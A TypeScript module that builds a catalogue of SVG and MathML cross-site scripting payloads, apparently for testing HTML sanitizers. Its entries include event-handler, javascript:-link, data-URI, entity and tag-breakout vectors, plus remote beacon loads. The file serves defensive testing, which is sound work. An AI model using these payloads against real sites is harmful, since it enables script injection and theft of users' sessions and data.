import { base64, payloadsOf } from './payload.ts';

const namespace = 'xmlns="http://www.w3.org/2000/svg"';

/** SVG and MathML: other elements that run, load or link. */
export const svgPayloads = payloadsOf('svg', {
  load: ({ script }) => `<svg onload=${script}>`,
  'load-slash': ({ script }) => `<svg/onload=${script}>`,
  script: ({ script }) => `<svg><script>${script}</script></svg>`,
  'script-entities': ({ script }) => `<svg><script>&#x74;op${script.slice('top'.length)}</script></svg>`,
  'script-href': ({ script }) => `<svg><script href="data:text/javascript,${script}"/></svg>`,
  'script-cdata': ({ script }) => `<svg><script><![CDATA[${script}]]></script></svg>`,
  'animate-begin': ({ script }) => `<svg><animate onbegin=${script} attributeName=x dur=1s></svg>`,
  'set-begin': ({ script }) => `<svg><set onbegin=${script} attributeName=x to=1></svg>`,
  'animate-link': ({ call }) =>
    `<svg><a><animate attributeName=href values="javascript:${call}"/><text x=20 y=20>Continue</text></a></svg>`,
  'set-link': ({ call }) =>
    `<svg><a><set attributeName="xlink:href" to="javascript:${call}"/><text x=20 y=20>Continue</text></a></svg>`,
  link: ({ call }) => `<svg><a xlink:href="javascript:${call}"><text x="20" y="20">Continue</text></a></svg>`,
  'use-data': ({ script }) =>
    `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" ${namespace} onload="${script}"/>`)}#x"/></svg>`,
  'foreign-object': ({ script }) => `<svg><foreignObject><img src=x onerror=${script}></foreignObject></svg>`,
  'image-error': ({ script }) => `<svg><image href=x onerror=${script} /></svg>`,
  'image-remote': ({ beacon }) => `<svg><image href="${beacon}" width="9" height="9"/></svg>`,
  'filter-remote': ({ beacon }) =>
    `<svg><filter id="f"><feImage href="${beacon}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  'style-import': ({ beacon }) => `<svg><style>@import "${beacon}";</style></svg>`,
  'style-breakout': ({ script }) => `<svg><style><img src=x onerror=${script}></style></svg>`,
  'title-breakout': ({ script }) => `<svg><title><img src=x onerror=${script}></title></svg>`,
  'desc-breakout': ({ script }) => `<svg><desc><img src=x onerror=${script}></desc></svg>`,
  discard: ({ script }) => `<svg><discard onbegin=${script}></svg>`,
  'document-entity': ({ script }) =>
    `<!DOCTYPE svg [<!ENTITY x "<script>${script}</script>">]><svg ${namespace}>&x;</svg>`,
  'math-link': ({ call }) => `<math href="javascript:${call}"><mi>x</mi></math>`,
  'math-link-xlink': ({ call }) => `<math><mrow xlink:href="javascript:${call}"><mi>x</mi></mrow></math>`,
  'math-action': ({ call }) =>
    `<math><maction actiontype="statusline#https://example.org" xlink:href="javascript:${call}">x</maction></math>`,
  'math-annotation': ({ script }) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${script}></annotation-xml></math>`,
  'math-focus': ({ script }) => `<math tabindex=0 autofocus onfocus=${script}><mi>x</mi></math>`,
});
